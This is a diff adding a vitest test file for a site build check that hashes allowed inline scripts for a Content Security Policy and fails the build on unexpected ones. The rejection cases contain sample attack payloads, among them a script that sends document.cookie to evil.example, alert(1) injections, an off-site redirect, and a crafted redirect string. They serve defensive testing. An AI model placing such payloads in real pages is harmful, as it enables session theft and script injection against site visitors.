@@ -1,0 +1,47 @@
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import {afterEach, expect, test} from 'vitest';
+import {cspHash, exactly, inlineScriptHashes, REDIRECT_PAGE_SCRIPT, UnexpectedInlineScriptError} from './inlineScripts';
+
+const EARLY_REVEAL = '!function(){document.documentElement.setAttribute("data-auth-known","")}()';
+const ALLOWED = [exactly('configuration and plugins', [EARLY_REVEAL]), REDIRECT_PAGE_SCRIPT];
+const redirect = (to: string) =>
+  `\n    window.location.href = '${to}' + window.location.search + window.location.hash;\n  `;
+
+let root: string;
+
+function buildWith(pages: Record<string, string>): string {
+  root = fs.mkdtempSync(path.join(os.tmpdir(), 'inline-scripts-'));
+  for (const [file, html] of Object.entries(pages)) {
+    fs.mkdirSync(path.dirname(path.join(root, file)), {recursive: true});
+    fs.writeFileSync(path.join(root, file), html);
+  }
+  return root;
+}
+
+afterEach(() => fs.rmSync(root, {recursive: true, force: true}));
+
+test('the scripts the site means are hashed once each; data blocks and script files are not scripts to allow', () => {
+  const hashes = inlineScriptHashes(
+    buildWith({
+      'index.html': `<head><script>${EARLY_REVEAL}</script><script type="application/ld+json">{"a":1}</script></head>`,
+      'fr/index.html': `<script>${EARLY_REVEAL}</script><script src="/assets/js/main.js"></script>`,
+      'docs/index.html': `<script>${redirect('/docs/about-chatgnb/what-is-chatgnb')}</script>`,
+    }),
+    ALLOWED,
+  );
+  expect(hashes).toEqual([cspHash(EARLY_REVEAL), cspHash(redirect('/docs/about-chatgnb/what-is-chatgnb'))].sort());
+});
+
+test.each([
+  ['a script an article let in', '<p>Hi</p><script>fetch("https://evil.example/?"+document.cookie)</script>'],
+  ['an announcement with a script', '<div class="announcement"><script>alert(1)</script></div>'],
+  ['a redirect page that leaves the site', `<script>${redirect('//evil.example/x')}</script>`],
+  ['a redirect page to a crafted address', `<script>${redirect("/x' + alert(1) + '")}</script>`],
+  ['an allowed script with one more statement', `<script>${EARLY_REVEAL};alert(1)</script>`],
+])('%s stops the build, naming the page', (_, html) => {
+  const build = buildWith({'index.html': `<script>${EARLY_REVEAL}</script>`, 'docs/article.html': html});
+  expect(() => inlineScriptHashes(build, ALLOWED)).toThrow(UnexpectedInlineScriptError);
+  expect(() => inlineScriptHashes(build, ALLOWED)).toThrow('docs/article.html: <script>');
+});
